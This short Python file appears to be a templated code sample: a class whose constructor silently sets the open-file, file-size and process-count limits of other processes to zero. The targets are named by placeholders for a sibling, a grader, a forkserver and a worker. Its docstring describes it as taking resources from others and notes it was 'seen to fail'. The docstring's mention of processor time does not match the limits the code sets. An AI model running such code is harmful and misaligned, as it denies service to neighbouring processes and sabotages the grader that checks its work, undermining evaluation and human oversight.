"""Takes away files, processor time and processes from others. Seen to fail: all have what they had."""

import contextlib
import resource


class Wave:
    def __init__(self, k):
        for pid in ("@SIBLING@", "@GRADER@", "@FORKSERVER@", "@WORKER@"):
            for which in (resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC):
                with contextlib.suppress(OSError, ValueError):
                    resource.prlimit(int(pid), which, (0, 0))
